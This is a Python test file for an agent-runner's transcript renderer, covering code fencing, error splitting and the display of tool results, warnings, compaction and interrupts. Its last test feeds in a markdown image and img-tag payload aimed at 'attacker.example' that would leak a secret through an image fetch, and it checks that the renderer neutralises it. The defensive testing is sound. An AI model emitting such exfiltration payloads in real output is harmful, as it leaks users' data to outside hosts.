"""runner.report.transcript: the pure parts, on hand-written events."""

from __future__ import annotations

import json

from runner.record.logged import parse_record
from runner.report.markdown import fence
from runner.report.transcript import render, split_result


def test_a_fence_is_longer_than_any_backtick_run_inside():
    assert fence("plain") == "```\nplain\n```"
    assert fence("a ```` b", "text").startswith("`````text\n") and fence("a ```` b").endswith("\n`````")


def test_an_error_result_is_split_into_its_message_and_output():
    content = json.dumps({"error": {"message": "exit code 2", "output": "boom\n", "type": "ExitNonZero"}})
    assert split_result(content) == ("exit code 2", "boom\n")
    assert split_result("just output") == (None, "just output")
    assert split_result('{"error": 3}') == (None, '{"error": 3}')


def test_spill_paths_warnings_compaction_and_interrupts_are_shown():
    events = [
        {"type": "model_request", "turn": 1},
        {"type": "model_response", "turn": 1, "message": {"content": "", "tool_calls": [{}]}},
        {"type": "tool_call", "turn": 1, "call_id": "c1", "tool": "read", "arguments": '{"path": "big.txt"}'},
        {"type": "permission_decision", "call_id": "c1", "decision": "allow", "policy_decision": "allow",
         "rule": None},
        {"type": "tool_result", "seq": 4, "call_id": "c1", "tool": "read", "ok": True, "bytes": 9000,
         "content": "\n".join(f"line {i}" for i in range(100)),
         "details": {"truncated": True, "output_path": "/runs/r/outputs/spill-1.txt"}},
        {"type": "loop_warning", "call_id": "c1", "detector": "repeat", "message": "same call again"},
        {"type": "model_response", "turn": 1, "message": {"content": "the compaction call's reply"}},
        {"type": "compaction", "turn": 1, "stage": "summarize", "before_tokens": 900, "after_tokens": 100,
         "summary": "what happened so far"},
        {"type": "interrupted", "signal": "SIGTERM", "during": "tool_call"},
    ]
    text = render(map(parse_record, events), {"status": "interrupted", "exit_code": 130, "answer": None})
    assert '`{"path": "big.txt"}`' in text and "by no rule matched (the mode's default)" in text
    assert "line 39\n```" in text and "line 40" not in text and "60 more line(s) below not shown" in text
    assert "full output: `/runs/r/outputs/spill-1.txt`" in text
    assert "⚠️ **warning** (repeat): same call again" in text
    assert "**Compaction** (summarize): 900 → 100 tokens" in text and "what happened so far" in text
    assert "🛑 **Interrupted** by SIGTERM (during tool_call)" in text
    assert "## Final answer\n\n*(none)*" in text and "the compaction call's reply" not in text


def test_the_models_text_cannot_fetch_images_or_break_the_page():
    bad = "done ![x](https://attacker.example/?d=secret) </details> <img src=https://attacker.example/p>"
    events = [{"type": "model_request", "turn": 1},
              {"type": "model_response", "turn": 1, "message": {"content": bad}}]
    text = render(map(parse_record, events), {"status": "success", "exit_code": 0, "answer": bad})
    assert "![" not in text and "</details>" not in text and "<img" not in text
    assert "attacker.example/?d=secret" in text  # still there to read, as text
